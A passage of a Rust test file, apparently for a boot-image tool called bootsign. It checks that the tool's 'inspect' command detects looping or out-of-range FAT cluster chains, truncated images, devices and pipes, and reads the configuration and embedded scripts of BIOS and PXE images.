    iso_fat.set(&mut img, iso_boot.cluster, spare);
    iso_fat.set(&mut img, spare, iso_boot.cluster);
    damaged("dirloop.iso", &img, "the FAT is damaged: the cluster chain of EFI/BOOT loops");

    // The program's chain loops back to its start, and its size is 0xFFFFFFFF: the loop
    // is found before the size is believed, and nothing near 4 GiB is allocated.
    let chain = fat.chain(&usb, file.cluster);
    assert!(chain.len() > 2, "{chain:?}");
    let mut img = usb.clone();
    img[file.at + 28..file.at + 32].copy_from_slice(&u32::MAX.to_le_bytes());
    fat.set(&mut img, *chain.last().unwrap(), file.cluster);
    damaged("fileloop.usb", &img, "the FAT is damaged: the cluster chain of EFI/BOOT/BOOTX64.EFI loops");

    // The same size on an intact chain: over the limit, said as such.
    let mut img = usb.clone();
    img[file.at + 28..file.at + 32].copy_from_slice(&u32::MAX.to_le_bytes());
    damaged("huge.usb", &img, "EFI/BOOT/BOOTX64.EFI is 4294967295 bytes, more than the 64 MiB limit");

    // A size just past what the chain holds.
    let holds = chain.len() * fat.cluster_bytes;
    let mut img = usb.clone();
    img[file.at + 28..file.at + 32].copy_from_slice(&(holds as u32 + 1).to_le_bytes());
    damaged(
        "short.usb",
        &img,
        &format!(
            "the FAT is damaged: EFI/BOOT/BOOTX64.EFI is {} bytes, but its cluster chain holds only {holds}",
            holds + 1
        ),
    );

    // A chain that leaves the file system.
    let mut img = usb.clone();
    fat.set(&mut img, boot.cluster, fat.clusters + 2);
    damaged(
        "outside.usb",
        &img,
        &format!(
            "the FAT is damaged: the cluster chain of EFI/BOOT leads to cluster {}, outside",
            fat.clusters + 2
        ),
    );
}

#[test]
fn inspect_says_a_cut_image_is_truncated() {
    let env = Env::new();
    pki(&env);
    env.ok(&["build", "--usb", "--iso", "--trust", "ca.crt"]);
    let iso = env.read("bootsign.iso");
    let usb = env.read("bootsign.usb");
    let half = iso.len() / 2;
    env.write("half.iso", &iso[..half]);
    let err = env.fails(&["inspect", "half.iso"]);
    assert!(
        err.contains("error: 'half.iso': the image is truncated: the El Torito boot image ends at byte ")
            && err.contains(&format!("past the end of the file ({half} bytes)")),
        "{err}"
    );
    // Cut before the volume descriptors: the hybrid MBR still says where the ESP was.
    env.write("head.iso", &iso[..20_000]);
    let err = env.fails(&["inspect", "head.iso"]);
    assert!(
        err.contains("'head.iso': the image is truncated: the EFI system partition (MBR) ends at byte"),
        "{err}"
    );
    env.write("half.usb", &usb[..usb.len() / 2]);
    let err = env.fails(&["inspect", "half.usb"]);
    assert!(err.contains("'half.usb': the image is truncated: the backup GPT header ends at byte"), "{err}");
}

#[test]
fn inspect_refuses_devices_and_pipes_at_once() {
    let env = Env::new();
    let err = fails_quickly(&env, &["inspect", "/dev/zero"], 10);
    assert!(err.contains("error: '/dev/zero' is a character device, not an image"), "{err}");
    let fifo = env.path("pipe");
    let made = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    // Opening a FIFO would wait for a writer forever: it must be refused before that.
    let err = fails_quickly(&env, &["inspect", "pipe"], 10);
    assert!(err.contains("error: 'pipe' is a FIFO (named pipe), not an image"), "{err}");
    let err = fails_quickly(&env, &["inspect", "."], 10);
    assert!(err.contains("error: '.' is a directory, not an image"), "{err}");
}

/// The legacy BIOS image (`.lkrn`): `inspect` finds the firmware's version and the
/// configuration appended after the core, and says the plain template has none.
#[test]
fn inspect_reads_the_bios_kernel_image() {
    let env = Env::new();
    let anchor = [0xab; 32];
    let config = bootsign_config::Config {
        anchors: vec![anchor],
        script: Some("#!ipxe\necho from the BIOS image\n"),
        ..Default::default()
    };
    std::fs::write(env.path("bootsign.lkrn"), bootsign::cmd::build::lkrn_image(&config).unwrap()).unwrap();
    let out = env.ok(&["inspect", "bootsign.lkrn"]);
    for line in [
        "(Linux kernel image (.lkrn), legacy BIOS, x86-64, ",
        &format!("firmware     bootsign {}\n", env!("CARGO_PKG_VERSION")),
        "signatures   none (a BIOS image; Secure Boot is UEFI's)\n",
        "trusted      1 root(s)\n",
        "script\n  #!ipxe\n  echo from the BIOS image\n",
    ] {
        assert!(out.contains(line), "{line:?} in:\n{out}");
    }
    std::fs::write(env.path("plain.lkrn"), bootsign::firmware::BIOS_TEMPLATE).unwrap();
    let out = env.ok(&["inspect", "plain.lkrn"]);
    assert!(out.contains("config       none (the plain template"), "{out}");
}

/// `build --kpxe` writes the PXE boot program with the `.lkrn` beside it, and `inspect`
/// on the `.kpxe` says which `.lkrn` it loads and whether the one beside it is that one
/// (the program refuses any other: tests/firmware_bios.rs boots it).
#[test]
fn the_kpxe_names_its_lkrn_and_inspect_checks_the_pair() {
    let env = Env::new();
    env.write("boot.ipxe", "#!ipxe\necho from PXE\n");
    env.ok(&["build", "--no-config", "--kpxe", "--embed", "boot.ipxe", "--output-name", "pxe"]);
    let kpxe = std::fs::read(env.path("pxe.kpxe")).unwrap();
    let lkrn = std::fs::read(env.path("pxe.lkrn")).unwrap();
    assert!(kpxe.len() < 4096, "an NBP fits in base memory: {} bytes", kpxe.len());
    assert_eq!(&lkrn[0x202..0x206], b"HdrS");
    let out = env.ok(&["inspect", "pxe.kpxe"]);
    let crc = bootsign_config::crc32(&lkrn);
    for line in [
        "image        pxe.kpxe (PXE boot program (.kpxe), legacy BIOS)\n",
        &format!(
            "loads        pxe.lkrn over TFTP, from its own directory ({} bytes, CRC-32 {crc:08x})\n",
            lkrn.len()
        ),
        "beside it    pxe.lkrn matches\n",
        "(Linux kernel image (.lkrn), legacy BIOS, x86-64, ",
        "script\n  #!ipxe\n  echo from PXE\n",
    ] {
        assert!(out.contains(line), "{line:?} in:\n{out}");
    }
    // Without --force nothing is overwritten, the .kpxe included.
    let err = env.fails(&["build", "--no-config", "--kpxe", "--output-name", "pxe"]);
    assert!(err.contains("pxe.lkrn") && err.contains("--force"), "{err}");
    // Another build's .lkrn beside it, and none.
    env.ok(&["build", "--no-config", "--lkrn", "--force", "--output-name", "pxe"]);
    let err = env.fails(&["inspect", "pxe.kpxe"]);
    assert!(
        err.contains("error: 'pxe.kpxe': the .lkrn it loads, 'pxe.lkrn', is from another build"),
        "{err}"
    );
    std::fs::remove_file(env.path("pxe.lkrn")).unwrap();
    let err = env.fails(&["inspect", "pxe.kpxe"]);
    assert!(err.contains("'pxe.lkrn', is missing"), "{err}");
}
